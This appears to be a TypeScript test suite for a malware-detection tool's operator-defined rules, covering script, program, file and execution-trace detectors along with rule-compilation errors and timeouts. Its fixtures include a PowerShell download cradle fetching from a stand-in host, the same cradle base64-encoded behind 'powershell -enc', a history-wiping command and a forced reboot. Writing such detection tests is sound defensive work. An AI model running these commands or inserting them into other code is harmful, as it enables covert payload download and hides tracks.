// Rules of an operator's own: they are read as ours are, found where they should be found, and cost nobody but themselves.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { showsInMessage } from '../../../src/analyze-mail.ts'
import { detectorCatalogue } from '../../../src/catalogue/catalogue.ts'
import type { FileRecord } from '../../../src/file/analyze.ts'
import { analyzeFile } from '../../../src/file/analyze.ts'
import { type CompiledOwn, compileOwn } from '../../../src/file/own/compile-own.ts'
import { tryExamples } from '../../../src/file/own/try-examples.ts'
import { analysisResults } from '../../../src/file/results/results.ts'
import type { Within } from '../../../src/rules/rule-guard.ts'
import { analyzeTrace } from '../../../src/trace/analyze.ts'
import { ownRuns, showsInRun } from '../../../src/trace/detectors/own-runs.ts'
import { runs, trace } from '../../trace/empty-trace.ts'
import { buildElf } from '../elf/build-elf.ts'

const now = new Date('2026-01-31T12:00:00Z')

/** A detector; `meta` and `features` as lines of YAML. */
const detector = (name: string, scope: string, features: string, meta = ''): string =>
  `rule:
  meta:
    name: ${name}
    scope: ${scope}
    type: execution
    severity: high
    title: The title of ${name}
    why: The reason of ${name}.
    known-false-positives: None known.
    weight: { category: execution, points: 700, confidence: high }
    tells: "It is ${name}: {found}"
${meta}  features:
    - ${features}
`

const compiled = (...texts: readonly string[]): CompiledOwn =>
  compileOwn(texts.map((text, at) => ({ name: `own-${at}.yml`, text, namespace: 'user' })))

async function analyzed(
  own: CompiledOwn,
  bytes: string | Uint8Array,
  fileName: string,
): ReturnType<typeof analyzeFile> {
  const { rules } = own
  return analyzeFile(Buffer.from(bytes), { fileName, now, ownRules: rules, capabilities: rules.capabilities })
}

const ids = ({ findings, children }: FileRecord): readonly string[] => [
  ...findings.map(({ id }) => id),
  ...children.flatMap(ids),
]

describe('rules of an operator', () => {
  const own = compiled(
    detector(
      'acme_lure',
      'script',
      'and: [{ text: [acmeupdate] }, { match: script/download }]',
      '    remediation: Ask Acme.\n    att&ck: [T1036.005]\n',
    ),
    detector('acme_program', 'program', 'text: [acme-dropper-key]'),
    detector('acme_invoice', 'file', 'string: /acme-invoice-\\d{1,9}/i'),
    `rule:\n  meta: { name: acme_words, scope: script, namespace: acme/words }\n  features: [{ text: [acmeone], near: '/acmeone\\d/i', language: [shell] }]\n`,
    detector('acme_asks', 'script', 'match: acme/words'),
  )
  const download = "(New-Object Net.WebClient).DownloadString('http://a.example/x')"

  test('compile without a word', () => assert.deepEqual([own.problems, own.notes], [[], []]))

  for (const [what, id, bytes, name, isFound] of [
    ['a script that has both', 'acme_lure', `$AcmeUpdate = 1; ${download}`, 'a.ps1', true],
    [
      'in a decoded layer',
      'acme_lure',
      `powershell -enc ${Buffer.from(`$AcmeUpdate = 1; ${download}`, 'utf16le').toString('base64')}`,
      'a.bat',
      true,
    ],
    ['one of both', 'acme_lure', '$AcmeUpdate = 1', 'a.ps1', false],
    ['a comment', 'acme_lure', `# AcmeUpdate\n${download}`, 'a.ps1', false],
    ['a text of a program', 'acme_program', buildElf({ strings: ['acme-dropper-key'] }), 'a', true],
    ['the same in a text', 'acme_program', 'acme-dropper-key', 'a.txt', false],
    ['a text of any file', 'acme_invoice', 'See Acme-Invoice-17.', 'a.txt', true],
    ['none of it', 'acme_invoice', 'See Acme-Invoice.', 'a.txt', false],
    ['a rule that asks for another', 'acme_asks', '#!/bin/sh\necho acmeone7\n', 'a.sh', true],
    ['in another language', 'acme_asks', '<?php echo "acmeone7";', 'a.php', false],
  ] as const)
    test(`${isFound ? 'find' : 'miss'} ${what}`, async () => {
      const { root } = await analyzed(own, bytes, name)
      assert.equal(ids(root).includes(id), isFound)
    })

  test('tell their id, title, reason and what to do, and weigh', async () => {
    const results = analysisResults(await analyzed(own, `$AcmeUpdate = 1; ${download}`, 'a.ps1')) as unknown as {
      readonly verdict: { readonly label: string; readonly score: number }
      readonly heuristics: readonly Record<string, unknown>[]
    }
    assert.equal(results.verdict.label, 'suspicious')
    const { heur_id, name, why, remediation, origin, score } =
      results.heuristics.find((one) => one['heur_id'] === 'acme_lure') ?? {}
    assert.deepEqual(
      { heur_id, name, why, remediation, origin, score },
      {
        heur_id: 'acme_lure',
        name: 'The title of acme_lure',
        why: 'The reason of acme_lure.',
        remediation: 'Ask Acme.',
        origin: 'operator',
        score: 700,
      },
    )
  })

  test('nobody else is judged by them', async () => {
    const { root } = await analyzeFile(Buffer.from('See Acme-Invoice-17.'), { fileName: 'a.txt', now })
    assert.deepEqual(ids(root), [])
  })
})

describe('a rule that cannot be used costs itself', () => {
  const sound = detector('acme_sound', 'script', 'text: [acmeone]')
  for (const [what, text, says] of [
    ['no YAML', `${sound}---\nrule: [\n`, /./],
    [
      'a weight without a reason',
      `${sound}---\n${detector('acme_b', 'script', 'text: [acme]').replace(/ {4}why.*\n/, '')}`,
      /"acme_b": a rule with a weight has a "why"/,
    ],
    [
      'a word that nothing knows',
      `${sound}---\n${detector('acme_b', 'script', 'text: [acme]', '    titel: x\n')}`,
      /"meta" knows no "titel"/,
    ],
    [
      'a reference to nothing',
      `${sound}---\n${detector('acme_b', 'script', 'match: acme_none')}`,
      /refers to acme_none/,
    ],
    [
      'a pattern that is none',
      `${sound}---\n${detector('acme_b', 'script', "{ text: acme, near: '/(/' }")}`,
      /cannot be compiled/,
    ],
    [
      'a pattern in a program',
      `${sound}---\n${detector('acme_b', 'program', "{ text: acme, near: '/acme/' }")}`,
      /"near" and "language" are of scripts/,
    ],
    [
      'a text that no search finds',
      `${sound}---\n${detector('acme_b', 'program', 'text: [ö]')}`,
      /3 to 64 signs of ASCII/,
    ],
    [
      'the name of another',
      `${sound}---\n${detector('acme_sound', 'program', 'text: [acme]')}`,
      /"acme_sound" is a rule of own-0\.yml already/,
    ],
    [
      'a condition that nobody can ask for',
      `${sound}---\nrule:\n  meta: { name: acme_b, scope: script }\n  features: [{ and: [{ text: acmeone }, { text: acmetwo }] }]\n`,
      /"acme_b": without a weight it is one "text", or an "or" of some/,
    ],
    ['an id that is no id', `${sound}---\n${detector('Acme lure', 'script', 'text: [acme]')}`, /small letters/],
    ['a find that is not there', `${sound}---\n${detector('acme_b', 'run', 'match: asked')}`, /asked/],
    ['texts in a whole file', `${sound}---\n${detector('acme_b', 'file', 'text: [acme]')}`, /"string" or "substring"/],
  ] as const)
    test(`${what} is told with its line`, async () => {
      const own = compiled(text)
      assert.equal(own.problems.length, 1, JSON.stringify(own.problems))
      const [{ file, line, message } = { file: '', line: 0, message: '' }] = own.problems
      assert.equal(file, 'own-0.yml')
      assert.ok(line !== null && line >= 15, `line ${line}`)
      assert.match(message, says)
      assert.deepEqual(ids((await analyzed(own, 'echo acmeone', 'a.sh')).root), ['acme_sound'])
    })
})

describe('a rule of what runs did', () => {
  const finds = '  finds:\n    asks: { commands: /\\bacme-agent\\b/, told: "{text}" }\n'
  const own = compiled(detector('acme_agent', 'run', 'match: asks', finds))
  const ran = (commandLine: string): ReturnType<typeof analyzeTrace> =>
    analyzeTrace([trace(runs(commandLine))], { path: 'a.sh', ownRuns: ownRuns(own.runs, own.rules.guard) })

  test('is read without a word, and has its page', () => {
    assert.deepEqual(own.problems, [])
    assert.ok(detectorCatalogue(own).some(({ id, judges }) => id === 'acme_agent' && judges === 'behaviour'))
  })

  test('finds and weighs what it asks for, and says whose it is', () => {
    const { findings, verdict, weights } = ran('acme-agent --now')
    assert.deepEqual(
      findings.map(({ id, ofOperator }) => [id, ofOperator?.why]),
      [['acme_agent', 'The reason of acme_agent.']],
    )
    assert.deepEqual([verdict?.label, verdict?.score, weights['acme_agent']?.points], ['suspicious', 700, 700])
    assert.equal(ran('other --now').verdict, null)
  })

  test('of an id of ours takes its place', () => {
    const taken = compiled(detector('trace_shuts_down', 'run', 'match: asks', finds))
    const input = { path: 'a.sh', ownRuns: ownRuns(taken.runs) }
    assert.deepEqual(analyzeTrace([trace(runs('shutdown /r /t 0'))], input).findings, [])
  })

  test('that takes too long is left out', () => {
    const stopped = compileOwn(
      [{ name: 'own.yml', text: detector('acme_slow', 'run', 'match: asks', finds), namespace: 'user' }],
      (work) => {
        work()
        return false
      },
    )
    const input = { path: 'a.sh', ownRuns: ownRuns(stopped.runs, stopped.rules.guard) }
    assert.deepEqual(analyzeTrace([trace(runs('acme-agent'))], input).findings, [])
  })
})

describe('an id of ours', () => {
  const own = compiled(detector('script_wipes_logs', 'script', 'text: [acmeone]'))

  test('is the operator’s where they take it, and they are told', async () => {
    assert.match(own.notes[0]?.message ?? '', /"script_wipes_logs" takes the place of ours/)
    assert.deepEqual(ids((await analyzed(own, 'history -c\n', 'a.sh')).root), [])
    const { root } = await analyzed(own, 'echo acmeone\n', 'a.sh')
    assert.deepEqual(
      root.findings.map(({ title }) => title),
      ['The title of script_wipes_logs'],
    )
  })

  test('has one page, the operator’s', () => {
    const pages = detectorCatalogue(own).filter(({ id }) => id === 'script_wipes_logs')
    assert.deepEqual(
      pages.map(({ family, why }) => [family, why]),
      [['Rules of the operator', 'The reason of script_wipes_logs.']],
    )
  })
})

test('a rule that takes too long is left out and told, and the others count', async () => {
  let stops = 1
  // Whatever is asked first is stopped after its work, once.
  const within: Within = (work) => {
    work()
    stops -= 1
    return stops < 0
  }
  const text = [
    'rule:\n  meta: { name: acme_sound, scope: script }\n  features: [{ text: [acmetwo] }]\n',
    "rule:\n  meta: { name: acme_slow, scope: script }\n  features: [{ text: [acmeone], near: '/acmeone/' }]\n",
    detector('acme_asks', 'script', 'or: [{ match: acme_slow }, { match: acme_sound }]'),
  ].join('---\n')
  const own = compileOwn([{ name: 'own.yml', text, namespace: 'user' }], within)
  const { root, cuts } = await analyzed(own, 'echo acmeone acmetwo', 'a.sh')
  assert.deepEqual(
    root.facts.script?.ownTraits?.map(({ id }) => id),
    ['acme_sound'],
  )
  assert.deepEqual(ids(root), ['acme_asks'])
  assert.match(cuts[0]?.what ?? '', /the rule "acme_slow" took too long and is left out/)
})

test('a pattern that takes too long while all are searched at once is found by asking one after the other', async () => {
  // What is asked for all patterns together is stopped first, and then the rule that is asked when the time is over again.
  let stops = 2
  const within: Within = (work) => {
    work()
    stops -= 1
    return stops < 0
  }
  const own = compileOwn(
    [{ name: 'own.yml', text: detector('acme_slow', 'file', 'string: /acmeone/'), namespace: 'user' }],
    within,
  )
  assert.deepEqual(
    own.rules.guard.run(() => 'answer', 'otherwise'),
    'otherwise',
  )
  assert.ok(own.rules.guard.isCareful)
  assert.match(own.rules.guard.takeTold().join(), /what the rules look at took too long/)
})

test('hits and misses of a rule are tried', async () => {
  const text = `${detector('acme_tried', 'script', 'text: [acmeone]')}  examples:
    hits: [{ language: shell, text: echo acmeone }, { language: shell, text: echo acmetwo }]
    misses: [{ language: shell, text: '# acmeone' }, { language: shell, text: echo acmeone again }]
---
${detector('acme_untried', 'program', 'text: [acmeone]')}  examples:
    hits: [{ format: elf, text: [one, acmeone] }]
---
${detector('acme_file', 'file', 'substring: acmeone')}  examples:
    hits: [{ file: a.txt, text: acmeone }]
    misses: [{ file: a.txt, text: acmetwo }]
---
${detector('acme_run', 'run', 'match: asks', '  finds: { asks: { commands: /acmeone/ } }\n')}  examples:
    hits: [{ what: started, run: { commands: [acmeone] } }]
    misses: [{ what: another, run: { commands: [acmeone.txt, acmetwo] } }]
`
  const tried = await tryExamples(compiled(text), now, { run: showsInRun, message: showsInMessage })
  assert.deepEqual(
    tried.map(({ rule, wrong }) => [rule.name, wrong]),
    [
      ['acme_tried', ['does not find its hit: echo acmetwo', 'finds its miss: echo acmeone again']],
      ['acme_untried', ['has no miss: write down what is nearly the same and honest']],
      ['acme_run', ['finds its miss: another']],
      ['acme_file', []],
    ],
  )
})
